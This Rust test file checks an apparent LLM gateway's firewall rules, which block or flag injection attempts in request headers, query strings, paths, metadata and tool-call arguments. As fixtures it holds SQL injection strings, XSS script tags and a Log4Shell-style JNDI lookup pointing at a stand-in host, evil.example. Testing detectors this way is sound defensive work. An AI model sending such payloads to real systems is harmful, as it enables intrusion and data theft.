//! Rules over what stands in the head of a request, and in its tool calls.

use serde_json::json;

use crate::ask::Ask;
use crate::bench::{Bench, Provider, open_to};
use crate::speech::OpenAi;

const ATTACK: &str = "1' or '1'='1";

fn rule(options: &str) -> String {
    format!("policies: [{{name: edge, input: [{{type: waf, {options}}}]}}]\n")
}

async fn chat(options: &str) -> Bench {
    Bench::start(&open_to(&[OpenAi.provider("a", "$A")], &rule(options))).await
}

fn plain(policy: &str, unscannable: &str) -> String {
    format!(
        "gateway: {{anonymous: allow}}\nproviders: [{{name: svc, kind: http, base_url: $A}}]\n\
         routes: [{{name: tools, path: /tools/*, to: /v1, provider: svc{unscannable}}}]\n{policy}"
    )
}

#[tokio::test]
async fn a_value_in_the_head_of_a_chat_is_blocked_before_any_provider_reads_it() {
    let bench = chat("action: block").await;
    let calm = || OpenAi.ask("m", "SELECT a FROM b WHERE c = '1' OR 1=1", false);
    let (told, record) = bench.ask(calm()).await;
    assert_eq!(told.status, 200, "prose is no value: {}", told.text());
    assert_eq!(record["checks"][0]["state"], "ran", "{record}");
    let asked = bench.a.requests();
    for ask in [
        calm().header("x-team", ATTACK),
        calm().header("user-agent", "<script>alert(1)</script>"),
        OpenAi.ask(ATTACK, "Hi", false),
        Ask::post(
            "/v1/chat/completions?trace=1%27%20or%20%271%27%3D%271",
            OpenAi.body("m", "Hi", false).to_string(),
        ),
        Ask::post(
            "/v1/chat/completions?a=b&x'+or+1=1--+=2",
            OpenAi.body("m", "Hi", false).to_string(),
        ),
    ] {
        let (told, record) = bench.ask(ask).await;
        assert_eq!(told.status, 400, "{}", told.text());
        assert_eq!(record["error_class"], "policy_blocked");
        assert_eq!(record["findings"][0]["detector"], "waf");
    }
    assert_eq!(bench.a.requests(), asked);
}

#[tokio::test]
async fn credentials_and_headers_of_the_connection_are_nobodys_to_read() {
    let bench = chat("action: block").await;
    let ask = OpenAi
        .ask("m", "Hi", false)
        .header("cookie", ATTACK)
        .header("te", ATTACK);
    let (told, _) = bench.ask(ask).await;
    assert_eq!(told.status, 200, "{}", told.text());
}

#[tokio::test]
async fn values_in_the_body_are_read_where_they_stand() {
    let bench = chat("action: block").await;
    let mut metadata = OpenAi.body("m", "Hi", false);
    metadata["metadata"] = json!({"ticket": ATTACK});
    let mut call = OpenAi.body("m", "Hi", false);
    let arguments = json!({"id": ATTACK}).to_string();
    call["messages"] = json!([
        {"role": "user", "content": "Hi"},
        {"role": "assistant", "tool_calls": [
            {"id": "c", "type": "function", "function": {"name": "f", "arguments": arguments}}]},
        {"role": "tool", "tool_call_id": "c", "content": "ok"},
    ]);
    for body in [metadata, call] {
        let (told, record) = bench.ask(OpenAi.asking(&body)).await;
        assert_eq!(told.status, 400, "{}", told.text());
        assert_eq!(record["findings"][0]["entity"], "sql_injection");
    }
}

#[tokio::test]
async fn a_flag_in_the_head_is_on_record_and_goes_on() {
    let bench = chat("action: flag").await;
    let ask = OpenAi.ask("m", "Hi", false).header("x-team", ATTACK);
    let (told, record) = bench.ask(ask).await;
    assert_eq!(told.status, 200, "{}", told.text());
    assert_eq!(record["findings"][0]["action"], "flag");
}

#[tokio::test]
async fn a_plain_route_is_read_by_its_head() {
    let policy = rule("action: block, places: [path, query, header]");
    let bench = Bench::start(&plain(&policy, "")).await;
    let (told, record) = bench.ask(Ask::get("/tools/echo?q=O%27Brien")).await;
    assert_eq!(told.status, 200, "{}", told.text());
    assert_eq!(record["checks"][0]["state"], "ran", "{record}");
    let asked = bench.a.requests();
    for ask in [
        Ask::get("/tools/echo?q=%3Cscript%3Ealert(1)%3C/script%3E"),
        Ask::get("/tools/1%27%20or%20%271%27%3D%271/x"),
        Ask::get("/tools/echo").header("x-a", "${jndi:ldap://evil.example/a}"),
    ] {
        let (told, record) = bench.ask(ask).await;
        assert_eq!(told.status, 400, "{}", told.text());
        assert_eq!(record["error_class"], "policy_blocked", "{record}");
    }
    assert_eq!(bench.a.requests(), asked);
}

#[tokio::test]
async fn what_a_rule_could_not_read_of_a_plain_route_is_on_record() {
    let config = plain(&rule("action: block"), ", unscannable: allow");
    let bench = Bench::start(&config).await;
    let ask = Ask::post("/tools/echo", json!({"id": ATTACK}).to_string());
    let (told, record) = bench.ask(ask).await;
    assert_eq!(told.status, 200, "{}", told.text());
    assert_eq!(record["checks"][0]["state"], "incomplete", "{record}");
    let (told, _) = bench.ask(Ask::get("/tools/echo?id=1+or+1%3D1")).await;
    assert_eq!(told.status, 400, "the head is read all the same");
}
